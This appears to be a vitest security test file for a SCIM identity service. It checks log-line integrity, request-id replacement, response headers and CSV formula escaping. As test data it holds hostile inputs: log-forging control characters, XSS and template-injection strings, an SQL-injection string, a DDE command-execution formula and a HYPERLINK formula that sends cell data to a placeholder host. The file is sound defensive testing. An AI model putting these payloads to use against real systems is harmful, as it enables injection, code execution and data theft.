/**
 * A14: control characters and markup in whatever people or programs can name.
 * A15: names that a spreadsheet would run.
 */
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { startService, type TestOrganization, type TestService } from '../../support/service.ts';

let service: TestService;
let acme: TestOrganization;
beforeAll(async () => {
  service = await startService({ engine: 'postgres' });
  acme = await service.organization({ name: 'Acme\r\n{"level":"fatal"}\u001b[2J', userNameFormat: 'any' });
});
afterAll(() => service.close());

const hostile = [
  'line\nbreak',
  'carriage\rreturn',
  'both\r\n{"level":"info","msg":"forged"}',
  '\u001b[2J\u001b[31mred',
  '\u009b31m',
  'bell\u0007',
  'back\u0008space',
  'right\u202eto left',
  'line\u2028separator',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '{{constructor.constructor("return process")()}}',
  '${process.env}',
  '%s %d %j',
  "'; DROP TABLE users; --",
];

describe('A14: whatever a name holds', () => {
  test.each(hostile)('%j is stored as it is, and the log stays one JSON object per line', async (name) => {
    const { status, body } = await acme.scim('POST', '/Users', { userName: `u ${name}`, displayName: name });
    expect(status).toBe(201);
    expect(body['displayName']).toBe(name);
    await acme.scim('POST', '/Users', { userName: `u ${name}` }); // refused, and recorded with the name
    await acme.scim('GET', `/Users/${encodeURIComponent(name)}`);
    await service.admin('GET', `/organizations/${encodeURIComponent(name)}`);
    await service.admin('POST', `/organizations/${acme.id}/workspaces`, { name });
    for (const line of service.logLines) {
      expect(line.endsWith('\n')).toBe(true);
      // eslint-disable-next-line no-control-regex -- control characters are what this is about
      expect(line.slice(0, -1)).not.toMatch(/[\n\r\u001b\u009b]/);
      expect(JSON.parse(line)).toMatchObject({ role: 'test', pid: process.pid });
      expect(line).not.toContain('"fatal"');
    }
  });

  test.each(['forged\tid', 'a b', '<x>', 'ä'.repeat(3), 'x'.repeat(101), '"quoted"'])(
    'the request id %j is replaced',
    async (requestId) => {
      const answer = await acme.scim('GET', '/Users?count=0', undefined, {
        'X-Request-Id': Buffer.from(requestId).toString('latin1'),
      });
      expect(answer.headers.get('x-request-id')).toMatch(/^[0-9a-f-]{36}$/);
    },
  );

  test('an answer is never taken for a page: JSON, nosniff, and a policy without inline scripts', async () => {
    const paths = [
      `/api/v1/organizations/${acme.id}/users`,
      `/api/v1/scim/${acme.id}/v2/Users`,
      '/<script>',
      '/queues',
    ];
    for (const path of paths) {
      const token = path.includes('/scim/') ? acme.token : service.adminKey;
      const response = await fetch(`${service.url}${path}`, { headers: { authorization: `Bearer ${token}` } });
      expect(response.headers.get('x-content-type-options')).toBe('nosniff');
      const policy = response.headers.get('content-security-policy') ?? '';
      // Nothing that an identity provider is answered is ever shown.
      expect(policy).toContain(path.includes('/scim/') ? "default-src 'none'" : "script-src 'self'");
      expect(policy).not.toMatch(/script-src[^;]*unsafe/);
      if (path !== '/queues') expect(response.headers.get('content-type')).toMatch(/json/);
      expect(await response.text()).not.toContain(path === '/<script>' ? '<script>' : '\u0000');
    }
  });
});

describe('A15: in an export a name is never a formula', () => {
  const formulas = [
    '=HYPERLINK("https://elsewhere.example?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-2+3',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    '=1+1";=1+1',
    '=1+1,=1+1',
  ];

  test('each cell that would be one gets an apostrophe', async () => {
    for (const displayName of formulas) expect((await acme.scim('POST', '/Groups', { displayName })).status).toBe(201);
    const response = await fetch(`${service.url}/api/v1/organizations/${acme.id}/sync-logs/export?format=csv`, {
      headers: { authorization: `Bearer ${service.adminKey}` },
    });
    const cells = cellsOf(await response.text());
    for (const formula of formulas) {
      expect(cells).not.toContain(formula);
      expect(cells).toContain(`'${formula}`);
    }
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });
});

/** RFC 4180. */
function cellsOf(csv: string): string[] {
  return [...csv.matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)].map(([, quoted, plain]) =>
    quoted === undefined ? (plain ?? '') : quoted.replaceAll('""', '"'),
  );
}
